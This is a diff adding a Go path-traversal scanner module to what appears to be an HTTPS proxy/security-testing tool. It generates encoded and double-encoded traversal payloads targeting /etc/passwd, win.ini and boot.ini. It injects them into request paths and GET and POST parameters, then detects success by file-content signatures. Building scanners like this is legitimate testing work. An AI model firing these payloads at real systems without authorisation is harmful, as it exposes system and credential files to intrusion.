@@ -0,0 +1,160 @@
+package scanner
+
+import (
+	"bytes"
+	"net/http"
+	"net/url"
+	"slices"
+	"strconv"
+	"strings"
+
+	"github.com/daronenko/https-proxy/internal/model"
+)
+
+const traversalDepth = 8
+
+var traversalSequences = []string{
+	"../",
+	"..%2f",
+	"%2e%2e%2f",
+	"%2e%2e/",
+	"..%252f",
+	"%252e%252e%252f",
+	"....//",
+	"..%c0%af",
+}
+
+var windowsTraversalSequences = []string{
+	"..\\",
+	"..%5c",
+	"%2e%2e%5c",
+	"..%255c",
+}
+
+var DefaultPathTraversalSignatures = []string{
+	"root:x:0:0:",
+	"root:*:0:0:",
+	"root::0:0:",
+	"; for 16-bit app support",
+	"[boot loader]",
+}
+
+// DefaultPathTraversalPayloads returns traversal sequences in plain, encoded
+// and double encoded forms aimed at well-known unix and windows files.
+func DefaultPathTraversalPayloads() []string {
+	payloads := []string{
+		"/etc/passwd",
+		"C:\\windows\\win.ini",
+	}
+
+	for _, seq := range traversalSequences {
+		prefix := strings.Repeat(seq, traversalDepth)
+		payloads = append(payloads,
+			prefix+"etc/passwd",
+			prefix+"etc/passwd%00",
+			prefix+"etc/passwd%00.png",
+			prefix+"windows/win.ini",
+		)
+	}
+
+	for _, seq := range windowsTraversalSequences {
+		prefix := strings.Repeat(seq, traversalDepth)
+		payloads = append(payloads,
+			prefix+"windows\\win.ini",
+			prefix+"windows\\win.ini%00",
+			prefix+"boot.ini",
+		)
+	}
+
+	return payloads
+}
+
+type PathTraversal struct {
+	Payloads   []string
+	Signatures []string
+}
+
+func (s PathTraversal) Name() string {
+	return "Path Traversal"
+}
+
+// Match reports whether body contains the content of one of the targeted
+// files, so hits are confirmed by content rather than by status code.
+func (s PathTraversal) Match(body []byte) bool {
+	for _, sig := range s.Signatures {
+		if bytes.Contains(body, []byte(sig)) {
+			return true
+		}
+	}
+	return false
+}
+
+func (s PathTraversal) Scan(original model.Request, try func(*http.Request) bool) []string {
+	var vulnerable []string
+
+	probe := func(point string, mutate func(mod *model.Request, payload string)) {
+		for _, payload := range s.Payloads {
+			mod := original.Clone()
+			mutate(&mod, payload)
+
+			req, err := buildRequest(mod)
+			if err != nil {
+				continue
+			}
+
+			if try(req) {
+				vulnerable = append(vulnerable, point+" (payload: "+payload+")")
+				return
+			}
+		}
+	}
+
+	segments := strings.Split(strings.TrimPrefix(original.Path, "/"), "/")
+	for i, segment := range segments {
+		if segment == "" {
+			continue
+		}
+		probe("Path segment: "+strconv.Itoa(i), func(mod *model.Request, payload string) {
+			mod.Path = "/" + strings.Join(append(slices.Clone(segments[:i]), payload), "/")
+		})
+	}
+
+	for k := range original.QueryParams {
+		probe("GET param: "+k, func(mod *model.Request, payload string) {
+			mod.QueryParams.Set(k, unescapeOnce(payload))
+		})
+	}
+
+	for k := range original.FormParams {
+		probe("POST param: "+k, func(mod *model.Request, payload string) {
+			mod.FormParams[k] = unescapeOnce(payload)
+		})
+	}
+
+	return vulnerable
+}
+
+// unescapeOnce turns a payload written as sent into a param value, params
+// are stored decoded and escaped again when the request is built, so double
+// encoded sequences reach the target double encoded.
+func unescapeOnce(payload string) string {
+	if value, err := url.PathUnescape(payload); err == nil {
+		return value
+	}
+	return payload
+}
+
+func buildRequest(mod model.Request) (*http.Request, error) {
+	body := model.BuildBody(mod)
+	req, err := http.NewRequest(mod.Method, model.BuildURL(mod), bytes.NewReader(body))
+	if err != nil {
+		return nil, err
+	}
+	copyHeadersCookies(req, &mod)
+
+	if len(body) > 0 && len(mod.FormParams) > 0 {
+		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	}
+
+	return req, nil
+}